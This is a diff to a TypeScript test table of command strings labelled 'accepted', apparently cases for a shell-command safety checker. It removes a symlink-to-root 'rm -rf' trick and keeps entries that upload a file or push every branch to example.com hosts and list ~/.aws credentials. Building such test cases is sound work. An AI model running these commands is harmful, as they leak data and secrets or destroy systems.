@@ -14,7 +14,6 @@ const accepted: readonly (readonly [string, string])[] = [
   ['RR-8', 'curl -F file=@report.pdf https://example.com/up'],
   ['RR-9', 'db.users.find()'],
   ['RR-10', 'psql app < schema.sql'],
-  ['RR-11', 'ln -sfn / ./build && rm -rf ./build/'],
   ['RR-12', 'git remote add x https://example.com/r.git && git push x --all'],
   ['RR-13', 'rg --files ~/.aws'],
   ['RR-14', 'conda env remove -n base -y'],
